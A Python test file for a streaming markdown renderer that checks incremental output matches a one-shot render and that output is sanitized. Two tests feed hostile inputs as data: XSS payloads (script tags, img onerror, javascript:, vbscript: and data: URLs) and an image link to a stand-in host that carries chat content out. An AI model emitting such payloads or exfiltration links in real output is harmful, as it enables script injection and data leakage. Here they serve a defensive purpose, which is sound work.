"""Streaming markdown: sanitized output, finished blocks rendered once, and the same HTML as a one-shot render."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it.token import Token

from fastapi_fragments.markdown._holdback import TABLE_HOLD_LIMIT
from fastapi_fragments.markdown._streaming import (
    MarkdownRenderer,
    MarkdownStep,
    StreamingMarkdown,
    render_markdown,
)
from tests.helpers import MARKDOWNISH, token_splits


# Lines chosen to hit the constructs whose boundaries are subtle: setext underlines, tables (whose
# header needs the next line), lists (tight vs loose), fences, indented code, lazy continuation.
def _normalized(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


_texts_and_splits = MARKDOWNISH.flatmap(lambda text: st.tuples(st.just(text), token_splits(text)))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_texts_and_splits, st.data())
def test_streamed_parts_equal_a_one_shot_render(text_and_deltas: tuple[str, list[str]], data: st.DataObject) -> None:
    text, deltas = text_and_deltas
    md = StreamingMarkdown()
    appended: list[str] = []
    fed = ""
    for delta in deltas:
        md.feed(delta)
        fed += delta
        if data.draw(st.booleans(), label="snapshot now"):
            step = md.snapshot()
            appended.append(step.blocks)
            # At every step, finished blocks + tail are exactly the one-shot render of the text so
            # far, less the end whose meaning is not decided yet (see _holdback).
            shown = _normalized(fed)
            assert shown.endswith(step.held) and len(step.held) <= TABLE_HOLD_LIMIT
            assert "".join(appended) + step.tail == render_markdown(shown[: len(shown) - len(step.held)])
    last = md.finish()
    appended.append(last.blocks)
    assert last.tail == ""
    assert "".join(appended) == render_markdown(text)


def test_steps_append_finished_blocks_once_and_replace_the_tail() -> None:
    md = StreamingMarkdown()
    md.feed("# Title\n\nFirst para")
    # After a blank line the heading is final, even while the next line is still being written.
    assert md.snapshot() == MarkdownStep("<h1>Title</h1>\n", "<p>First para</p>\n")
    md.feed("graph.\n\nSecond")
    assert md.snapshot() == MarkdownStep("<p>First paragraph.</p>\n", "<p>Second</p>\n")
    md.feed(" paragraph.\n- item")
    # Without a blank line before it, a line still being written is not trusted to start a block
    # ("#" could become "#tag", text that continues the paragraph): the paragraph is not final yet.
    assert md.snapshot() == MarkdownStep("", "<p>Second paragraph.</p>\n<ul>\n<li>item</li>\n</ul>\n")
    md.feed("\n")
    assert md.snapshot() == MarkdownStep("<p>Second paragraph.</p>\n", "<ul>\n<li>item</li>\n</ul>\n")
    md.feed("\n2")
    # After a list a blank line is not enough: the line being written could still become an item.
    assert md.snapshot().blocks == ""
    assert md.finish() == MarkdownStep("<ul>\n<li>item</li>\n</ul>\n<p>2</p>\n", "")


def test_a_table_header_waits_for_its_delimiter_row() -> None:
    md = StreamingMarkdown()
    md.feed("intro\n| a | b |\n|--")
    # "| a | b |" may still turn into a table that interrupts the paragraph: nothing is final yet.
    assert md.snapshot().blocks == ""
    md.feed("-|---|\n| 1 | 2 |\n")
    step = md.snapshot()
    assert step.blocks == "<p>intro</p>\n"
    assert step.tail.startswith("<table>")


def test_model_html_and_script_urls_never_survive() -> None:
    html = render_markdown(
        "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[a](javascript:alert(1)) "
        "[b](JaVaScRiPt:alert(1)) ![c](javascript:alert(1)) <a href='javascript:alert(1)'>d</a>\n\n"
        "[e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x)"
    )
    assert "<script" not in html
    assert "<img src=x" not in html
    assert 'href="javascript' not in html.lower()
    assert 'src="javascript' not in html.lower()
    assert 'href="data:' not in html
    assert "&lt;script&gt;" in html


def test_safe_markdown_renders_fully() -> None:
    html = render_markdown(
        "## Steps\n\n1. one\n2. **two**\n\n| left | right |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\nprint('<hi>')\n```\n\n[docs](https://example.com) ![alt](https://example.com/i.png)\n"
    )
    assert "<h2>Steps</h2>" in html
    assert "<ol>\n<li>one</li>\n<li><strong>two</strong></li>\n</ol>" in html
    assert '<th style="text-align:left">left</th>' in html
    assert "<pre><code class=\"language-python\">print('&lt;hi&gt;')\n</code></pre>" in html
    assert '<a href="https://example.com" rel="noopener noreferrer">docs</a>' in html
    assert '<a href="https://example.com/i.png" rel="noopener noreferrer">alt</a>' in html  # images are links


def test_reference_definitions_stay_literal_text() -> None:
    # A definition arriving late would change links already sent, so references are off.
    assert render_markdown("[x]\n\n[x]: https://example.com\n") == "<p>[x]</p>\n<p>[x]: https://example.com</p>\n"


class _CountingRenderer(MarkdownRenderer):
    """A real renderer that also counts how many characters it was asked to parse."""

    __slots__ = ("parsed",)

    def __init__(self) -> None:
        super().__init__()
        self.parsed = 0

    def parse(self, source: str) -> list[Token]:
        self.parsed += len(source)
        return super().parse(source)


def test_each_step_parses_only_the_unfinished_tail() -> None:
    paragraph = "A sentence of model output that runs on for a while. " * 4 + "\n\n"
    text = paragraph * 100
    renderer = _CountingRenderer()
    md = StreamingMarkdown(renderer)
    appended = []
    for start in range(0, len(text), 4):
        md.feed(text[start : start + 4])
        appended.append(md.snapshot().blocks)
    steps = len(appended)
    assert "".join(appended) + md.finish().blocks == render_markdown(text)
    # Rescanning would parse ~len(text)**2 / 8 characters; the tail is never more than two paragraphs.
    assert renderer.parsed <= steps * 2 * len(paragraph)


def test_split_crlf_counts_as_one_newline() -> None:
    md = StreamingMarkdown()
    for delta in ["para one\r", "\n\r", "\npara two\r", "\n"]:
        md.feed(delta)
    assert md.finish().blocks == render_markdown("para one\n\npara two\n")


def test_images_become_links_so_nothing_is_fetched_without_a_click() -> None:
    html = render_markdown("![chart](https://evil.example/log?chat=SECRET) ![x](javascript:alert(1))")
    assert "<img" not in html
    assert '<a href="https://evil.example/log?chat=SECRET" rel="noopener noreferrer">chart</a>' in html
    assert 'href="javascript' not in html  # markdown-it refuses the link; it stays plain text
